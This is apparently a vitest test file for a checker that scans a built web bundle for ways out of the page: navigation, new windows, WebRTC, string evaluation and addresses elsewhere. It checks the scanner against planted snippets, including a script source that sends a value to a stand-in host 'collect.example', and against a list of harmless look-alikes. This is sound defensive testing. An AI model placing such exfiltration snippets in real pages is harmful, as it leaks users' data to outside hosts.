import { describe, expect, it } from 'vitest';

import { wayOut } from '../../../web/bundle/ways-out.ts';

describe('the check of the built page', () => {
  it.each([
    ['a();location=`x`;b()', 'navigation'],
    ['document.location = t', 'navigation'],
    ['e.location.href=t', 'navigation'],
    ['location.assign(t)', 'navigation'],
    ['window.location.replace(t)', 'navigation'],
    ['window.open(t)', 'a new window'],
    ['globalThis.open(t)', 'a new window'],
    ['let t=new RTCPeerConnection', 'WebRTC'],
    ['eval(t)', 'text run as a program'],
    ['new Function(`return 1`)', 'text run as a program'],
    ['let f=Function(t)', 'text run as a program'],
    ['setTimeout(`alert(1)`,9)', 'text run as a program'],
    ['e.src=`https://collect.example/${t}`', 'an address elsewhere'],
    ['e.src="http://collect.example"', 'an address elsewhere'],
    ["e.src='//collect.example/x'", 'an address elsewhere'],
    ['const a="wss://collect.example"', 'an address elsewhere'],
  ])('finds %j among much else', (planted, why) => {
    const page = `${'const a=1;'.repeat(1000)}${planted};${'const b=2;'.repeat(1000)}`;
    expect(wayOut(page)).toContain(why);
    expect(wayOut(page)).toContain(planted);
  });

  it('takes names and readings for what they are', () => {
    const harmless = [
      'if(location.protocol==`file:`)a()',
      'history.replaceState(null,``,location.href)',
      'location.reload()',
      'document.createElementNS(`http://www.w3.org/2000/svg`,`svg`)',
      'let a=typeof t==`function`?t():isFunction(t)',
      'retrieval(t)',
      '// read https://collect.example',
      'indexedDB.open(`riskset`)',
    ];
    for (const code of harmless) expect(wayOut(code), code).toBeNull();
  });
});
